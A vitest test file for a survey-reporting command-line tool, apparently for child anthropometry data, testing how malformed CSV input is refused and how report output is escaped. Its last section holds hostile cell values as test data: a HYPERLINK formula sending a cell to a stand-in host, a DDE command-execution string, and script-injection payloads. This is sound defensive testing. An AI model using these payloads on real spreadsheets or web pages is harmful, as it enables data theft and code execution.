import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { type Results, resultsSchema } from "../../src/results/schema.js";
import { type Around, type Called, call, emptyFolder } from "../cli/run-here.js";
import { changed, csvOf, type Row, smallRows } from "../cli/small-survey.js";
import { filesIn, reachesOut, slips, textsOf } from "./program.js";

const columns = Object.keys(smallRows()[0] ?? {});

/** Every row of the small survey with the same cells changed. */
function everywhere(change: (row: Row, i: number) => Row): Row[] {
  return smallRows().map((row, i) => ({ ...row, ...change(row, i) }));
}

interface Tried extends Called {
  /** What stands in the output folder, by name; the earlier output stood there before. */
  readonly output: Map<string, Buffer>;
  /** Lines of the list of problems, without its header; empty where there is no list. */
  readonly problems: readonly (readonly string[])[];
  /** Everything below the working folder that is neither the data nor in the survey's own output folder. */
  readonly elsewhere: readonly string[];
}

const earlier = '{"format":"tareline-results","of":"an earlier run"}';

/** A whole run on this file, over an earlier output. */
async function tryOut(content: string | Uint8Array, around: Around = {}): Promise<Tried> {
  const folder = emptyFolder();
  const data = join(folder, "bad.csv");
  writeFileSync(data, content);
  const out = join(folder, "out");
  mkdirSync(join(out, "bad"), { recursive: true });
  writeFileSync(join(out, "bad", "results.json"), earlier);
  const called = await call(["report", data, "--out", out, "--no-pdf"], around);
  const elsewhere = [...filesIn(folder).keys()].filter((name) => name !== "bad.csv" && !name.startsWith("out/bad/"));
  const list = join(out, "bad-problems.csv");
  const problems = existsSync(list) ? (parse(readFileSync(list), { bom: true }) as string[][]).slice(1) : [];
  return { ...called, output: filesIn(join(out, "bad")), problems, elsewhere };
}

/** The run was refused: each group of problems names these things, and nothing was written or lost. */
function expectRefused(tried: Tried, ...named: readonly (string | RegExp)[]): void {
  expect(tried.code, tried.err).toBe(2);
  expect(tried.out).toBe("");
  for (const name of named) expect(tried.err).toMatch(name);
  expect(tried.err).not.toMatch(/\[\[|NaN|undefined|Infinity|node_modules|\.js:/);
  expect(tried.err.length).toBeLessThan(6000);
  expect([...tried.output.keys()]).toEqual(["results.json"]);
  expect(tried.output.get("results.json")?.toString("utf8")).toBe(earlier);
  // Beside the output, and nowhere else: the list of all problems.
  expect(tried.elsewhere).toEqual(["out/bad-problems.csv"]);
  expect(tried.problems.length).toBeGreaterThan(0);
  for (const problem of tried.problems) {
    expect(problem[0]).toBe("internal");
    // File, how many, what is wrong, what to do.
    for (const at of [1, 6, 7, 9]) expect(problem[at]).not.toBe("");
    expect(problem.join(" ")).not.toMatch(/\[\[|NaN|undefined|Infinity|node_modules|\.js:/);
  }
}

/** A row as the message names it, with the value that stands there. */
const cell = (row: number, value: string): RegExp =>
  new RegExp(`row ${row}: .*${value.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`);

interface Report {
  readonly results: Results;
  readonly html: string;
  readonly csv: string;
}

/** The run gave a report: whole, without a slip, and with a reason for every reading of 'unknown'. */
function expectReport(tried: Tried): Report {
  expect(tried.code, tried.err).toBe(0);
  expect(tried.elsewhere).toEqual([]);
  const text = (name: string): string => tried.output.get(name)?.toString("utf8") ?? "";
  const results = resultsSchema.parse(JSON.parse(text("results.json"))) as Results;
  const html = text("report.html");
  expect(textsOf(html).length).toBeGreaterThan(100);
  expect(slips(html)).toEqual([]);
  expect(reachesOut(html)).toEqual([]);
  const tables = [...tried.output].filter(([name]) => name.endsWith(".csv"));
  const csv = tables.map(([, bytes]) => bytes.toString("utf8")).join("\n");
  expect(csv).not.toMatch(/NaN|undefined|Infinity|\[\[|\[object/);
  for (const check of results.checks) {
    if (check.reading !== "unknown") continue;
    expect(check.reason, check.id).toBeDefined();
    expect(check.reason?.id, check.id).not.toBe("checks.unknown.failed");
  }
  return { results, html, csv };
}

const readingOf = (results: Results, id: string): string | undefined =>
  results.checks.find((check) => check.id === id)?.reading;

describe("a file that is no table", () => {
  it("an empty file", async () => {
    expectRefused(await tryOut(""), "bad.csv");
    expectRefused(await tryOut(Uint8Array.of(0xef, 0xbb, 0xbf)), "bad.csv");
    expectRefused(await tryOut("\n\n  \n"), "bad.csv");
  });

  it("column names only", async () => {
    expectRefused(await tryOut(`${columns.join(",")}\n`), "bad.csv");
  });

  it("a binary file, and one that only begins like a workbook", async () => {
    const noise = Uint8Array.from({ length: 4096 }, (_, i) => (i * 167 + (i >> 3)) % 256);
    expectRefused(await tryOut(noise), "bad.csv", "CSV");
    expectRefused(await tryOut(Uint8Array.of(0x50, 0x4b, 3, 4, ...noise)), "bad.csv", "damaged");
  });

  it("a delimiter that is none", async () => {
    expectRefused(await tryOut(csvOf(smallRows()).replaceAll(",", ":")), "bad.csv", "cluster:team");
  });

  it("a delimiter that the settings state wrongly", async () => {
    const folder = emptyFolder();
    writeFileSync(join(folder, "data.csv"), csvOf(smallRows()));
    writeFileSync(join(folder, "survey.yaml"), 'title: t\nname: t\ndata: { file: data.csv, delimiter: ";" }\n');
    const called = await call(["report", join(folder, "survey.yaml"), "--out", join(folder, "out"), "--no-pdf"]);
    expect(called.code, called.err).toBe(2);
    expect(called.err).toContain("data.csv");
    expect([...filesIn(folder).keys()]).toEqual(["data.csv", "out/survey-problems.csv", "survey.yaml"]);
  });

  it("rows of another length", async () => {
    const lines = csvOf(smallRows()).split("\n");
    lines[4] = `${lines[4]},surplus`;
    expectRefused(await tryOut(lines.join("\n")), "bad.csv", /row 5: .*10.* 9 /);
  });
});

describe("columns", () => {
  it("a missing column that is needed: says which, what the columns are, and what to run", async () => {
    const without = columns.filter((name) => name !== "sex");
    const tried = await tryOut(csvOf(smallRows(), without));
    expectRefused(tried, "bad.csv", "tareline describe bad.csv", ...without);
  });

  it("no measurement at all", async () => {
    expectRefused(await tryOut(csvOf(smallRows(), columns.slice(0, 5))), "weight", "tareline describe bad.csv");
  });

  it("unknown sex codes: each value once, with its first row and how often", async () => {
    const tried = await tryOut(csvOf(changed({ 6: { sex: "q" }, 11: { sex: "q" }, 13: { sex: "boyish" } })));
    expectRefused(tried, /"sex".*3 /, /row 6: "q".*2 /, cell(13, "boyish"), "survey.yaml");
  });

  it("text in a number", async () => {
    const tried = await tryOut(
      csvOf(changed({ 5: { weight: "about ten" }, 9: { weight: "12,5x" }, 10: { height: "tall" } })),
    );
    expectRefused(tried, /"weight".*2 /, cell(5, "about ten"), cell(9, "12,5x"), /"height".*1 /, cell(10, "tall"));
  });

  it("rows are numbered as a spreadsheet shows them: blank lines and line breaks inside a cell count as it does", async () => {
    const rows = changed({ 2: { team: "T1\nnorth" }, 5: { weight: "heavy" } });
    const lines = csvOf(rows).replace(/\n(?=[^\n]*T2)/, "\n\n");
    expectRefused(await tryOut(lines), cell(6, "heavy"));
  });

  it("impossible dates", async () => {
    const tried = await tryOut(
      csvOf(changed({ 4: { birth_date: "2024-02-30" }, 5: { birth_date: "2023-13-01" }, 7: { birth_date: "soon" } })),
    );
    expectRefused(tried, "birth_date", cell(4, "2024-02-30"), cell(5, "2023-13-01"), cell(7, "soon"), "missing");
  });

  it("a birth after the interview", async () => {
    const two = changed({ 4: { birth_date: "2026-01-01" }, 9: { birth_date: "2026-01-02" } });
    expectRefused(await tryOut(csvOf(two)), cell(4, "2026-01-01"), cell(9, "2026-01-02"));
  });

  it("a date that is still to come", async () => {
    const today = Date.parse("2025-03-06") / 86_400_000;
    const future = csvOf(changed({ 4: { interview_date: "2099-03-03" }, 6: { interview_date: "2025-03-07" } }));
    expectRefused(await tryOut(future, { today }), "interview_date", cell(4, "2099-03-03"), cell(6, "2025-03-07"));
    expectReport(await tryOut(csvOf(changed({ 6: { interview_date: "2025-03-06" } })), { today: today + 1 }));
  });

  it("a date beyond any survey is none, whatever the day", async () => {
    const far = csvOf(changed({ 4: { interview_date: "9999-03-03" } }));
    expectRefused(await tryOut(far), "interview_date", cell(4, "9999-03-03"));
  });

  it("zero and negative measures", async () => {
    const tried = await tryOut(
      csvOf(
        changed({
          3: { weight: "0" },
          4: { height: "0.0" },
          5: { muac: "-130" },
          6: { weight: "-4.2" },
          7: { height: "0.0", muac: "-120" },
        }),
      ),
    );
    expectRefused(tried, cell(3, "0"), cell(4, "0.0"), cell(5, "-130"), cell(6, "-4.2"), "missing");
  });

  it("weight and height swapped, in several rows and in all", async () => {
    const several = smallRows().map((row, i) =>
      i % 20 === 6 ? { ...row, weight: row.height, height: row.weight } : row,
    );
    expectRefused(await tryOut(csvOf(several as Row[])), cell(8, several[6]?.weight ?? ""));
    const all = everywhere(({ weight = "", height = "" }) => ({ weight: height, height: weight }));
    expectRefused(await tryOut(csvOf(all)), '"weight"', '"height"', "60");
  });

  it("units mixed within a column", async () => {
    const tried = await tryOut(
      csvOf(changed({ 5: { weight: "14600" }, 10: { weight: "9300" }, 7: { height: "881" }, 9: { height: "790" } })),
    );
    expectRefused(tried, /"weight".*kg.*2 /, cell(5, "14600"), cell(10, "9300"), /"height".*cm.*2 /, cell(7, "881"));
  });

  it("a column wholly in grams is read as grams", async () => {
    const grams = everywhere(({ weight }) => ({ weight: String(Math.round(Number(weight) * 1000)) }));
    const { results } = expectReport(await tryOut(csvOf(grams)));
    const { results: kilograms } = expectReport(await tryOut(csvOf(smallRows())));
    expect(results.estimates.find((one) => one.id === "wasting")?.overall?.value).toBe(
      kilograms.estimates.find((one) => one.id === "wasting")?.overall?.value,
    );
  });
});

describe("data that can be read but say little: a report, and unknown with a reason where it cannot tell", () => {
  it("ages outside 0 to 59 months are left out and counted", async () => {
    const old = changed({ 3: { birth_date: "2015-01-01" }, 9: { birth_date: "2019-12-01" } });
    const { results } = expectReport(await tryOut(csvOf(old)));
    expect(results.input).toMatchObject({
      rowsRead: 60,
      rowsUsed: 58,
      leftOut: [{ reason: "age-outside", count: 2 }],
    });
  });

  it("no child of the ages at all: nothing is estimated, every check is unknown, and nothing reads as fine", async () => {
    const { results } = expectReport(await tryOut(csvOf(everywhere(() => ({ birth_date: "2015-01-01" })))));
    expect(results.input.rowsUsed).toBe(0);
    expect(new Set(results.checks.map((check) => check.reading))).toEqual(new Set(["unknown"]));
    for (const estimate of results.estimates) expect(estimate.overall, estimate.id).toBeNull();
    expect(JSON.stringify(results.story)).not.toMatch(
      /"story\.(quality\.expected|heading\.\w+\.expected|next\.nothing)"/,
    );
  });

  it("one cluster only: figures without intervals, with the reason", async () => {
    const { results } = expectReport(await tryOut(csvOf(everywhere(() => ({ cluster: "1" })))));
    const wasting = results.estimates.find((estimate) => estimate.id === "wasting")?.overall;
    expect(wasting).toMatchObject({ interval: null, standardError: null, reason: { id: "cell.one-cluster" } });
    expect(wasting?.classification).toBeUndefined();
    expect(readingOf(results, "clusters-differ")).toBe("unknown");
    expect(JSON.stringify(results.story.sentence)).toContain("no-interval");
  });

  it("one child only", async () => {
    const { results } = expectReport(await tryOut(csvOf([{ ...smallRows()[0], sex: "male" } as Row])));
    expect(results.children.total).toBe(1);
    for (const check of results.checks) expect(check.reading, check.id).toBe("unknown");
    for (const { overall } of results.estimates) expect(overall?.interval ?? null).toBeNull();
  });

  it("all values identical", async () => {
    const [first] = smallRows();
    if (first === undefined) throw new Error("no rows");
    const { weight = "", height = "", muac = "", birth_date = "", interview_date = "" } = first;
    const same = { weight, height, muac, birth_date, interview_date };
    const { results } = expectReport(await tryOut(csvOf(everywhere(() => ({ ...same, sex: "male" })))));
    const told = ["spread", "shape", "weight-digits", "height-digits", "arm-digits", "duplicate-rows", "age-groups"];
    for (const id of told) expect(readingOf(results, id), id).not.toBe("expected");
    expect(readingOf(results, "duplicate-rows")).toBe("doubt");
    for (const id of ["shape", "weight-digits"]) expect(readingOf(results, id), id).toBe("unknown");
  });

  it("a column without any value", async () => {
    const { results } = expectReport(await tryOut(csvOf(everywhere(() => ({ weight: "" })))));
    expect(readingOf(results, "weight-digits")).toBe("unknown");
    expect(results.estimates.find((estimate) => estimate.id === "wasting")).toMatchObject({ overall: null });
    expect(results.estimates.find((estimate) => estimate.id === "stunting")?.overall?.value).not.toBeNull();
  });
});

describe("cells that are a burden or an attack", () => {
  const long = "x".repeat(20_000);

  it("a label of 20,000 characters never reaches the report", async () => {
    const { html, csv } = expectReport(await tryOut(csvOf(changed({ 4: { team: long } }))));
    expect(html + csv).not.toMatch(/x{200}/);
  });

  it("a measure of 20,000 characters is named, shortened", async () => {
    for (const value of [long, "9".repeat(20_000)]) {
      const tried = await tryOut(csvOf(changed({ 4: { weight: value } })));
      expectRefused(tried, '"weight"', cell(4, value.slice(0, 20)));
      expect(tried.err).not.toContain(value.slice(0, 500));
    }
  });

  it("a column name of 20,000 characters is passed over", async () => {
    const rows = smallRows().map((row) => ({ ...row, [long]: "1" }));
    const { html } = expectReport(await tryOut(csvOf(rows)));
    expect(html).not.toMatch(/x{200}/);
  });

  it("formula-like and HTML-like team names: no tag, no formula, no message, no template", async () => {
    const names = [
      '=HYPERLINK("http://a.example/?"&A1)',
      "<script>alert(1)</script>",
      "+1+1",
      "@SUM(A1)",
      "<img src=x onerror=alert(1)>",
      "-2+3",
      '{{t "x"}}',
      "{name}",
      "[[x]]",
      "\t=1+1",
    ];
    const rows = everywhere((_, i) => ({ team: names[i % names.length] ?? "" }));
    const { html, csv, results } = expectReport(await tryOut(csvOf(rows)));
    const texts = textsOf(html).join("\n");
    for (const name of names) expect(texts, name).not.toContain(name.trim());
    expect(html).not.toMatch(/<script|onerror|HYPERLINK|alert\(/i);
    // A cell that a spreadsheet would run starts, after the quote that CSV may put there, with one of these.
    expect(csv).not.toMatch(/(^|,|\n)"?[=@]/);
    expect(results.checks.some((check) => check.groups.length > 0)).toBe(true);
  });

  it("short labels that are kept as they are come out escaped", async () => {
    for (const names of [
      ["<b>1", "<i>2", "&3"],
      ["=1+2", "=3", "@4"],
      ["'5", '"6', "`7"],
    ] as const) {
      const rows = everywhere((_, i) => ({ team: names[i % names.length] ?? "" }));
      const { html, csv } = expectReport(await tryOut(csvOf(rows)));
      expect(html).not.toMatch(/<b>1|<i>2/);
      expect(csv).not.toMatch(/(^|,|\n)"?[=@]/);
    }
  });

  it("the same in a title and a column the user names for groups", async () => {
    const folder = emptyFolder();
    const rows = everywhere((_, i) => ({ water: i % 2 === 0 ? "=cmd|' /C calc'!A0" : "<svg onload=alert(1)>" }));
    writeFileSync(join(folder, "data.csv"), csvOf(rows));
    await call(["describe", join(folder, "data.csv"), "--out", join(folder, "survey.yaml")]);
    const draft = readFileSync(join(folder, "survey.yaml"), "utf8")
      .replace(/^title: .*$/m, 'title: "<script>alert(1)</script> & co"\npopulation: "<b>all</b>"')
      .replace(/^# subgroups: .*$/m, "subgroups: [water]")
      .replace(/^name: .*$/m, "name: titled");
    writeFileSync(join(folder, "survey.yaml"), draft);
    const called = await call(["report", join(folder, "survey.yaml"), "--out", join(folder, "out"), "--no-pdf"]);
    expect(called.code, called.err).toBe(0);
    const output = filesIn(join(folder, "out", "titled"));
    const html = output.get("report.html")?.toString("utf8") ?? "";
    expect(reachesOut(html)).toEqual([]);
    expect(html).not.toMatch(/<script|<b>all|<svg onload/);
    expect(textsOf(html)).toContain("<script>alert(1)</script> & co");
  });

  it("a formula as a column's name is made harmless in the list of rows to look at", async () => {
    const folder = emptyFolder();
    const rows = smallRows().map(({ weight = "", ...row }, i) => ({ ...row, "=1+1": i === 3 ? "60" : weight }));
    writeFileSync(join(folder, "data.csv"), csvOf(rows));
    const roles = ["cluster", "sex", "height", "interview-date: interview_date", "birth-date: birth_date"];
    const lines = roles.map((role) => `  ${role.includes(":") ? role : `${role}: ${role}`}`);
    const yaml = [
      "title: t",
      "name: t",
      "data: data.csv",
      "columns:",
      '  weight: { column: "=1+1", unit: kg }',
      ...lines,
    ];
    writeFileSync(join(folder, "survey.yaml"), `${yaml.join("\n")}\n`);
    const called = await call(["report", join(folder, "survey.yaml"), "--out", join(folder, "out"), "--no-pdf"]);
    expect(called.code, called.err).toBe(0);
    const list =
      filesIn(join(folder, "out", "t"))
        .get("rows-to-check.csv")
        ?.toString("utf8") ?? "";
    expect(list).toContain("'=1+1");
    expect(list).not.toMatch(/(^|,|\n)"?=/);
  });
});
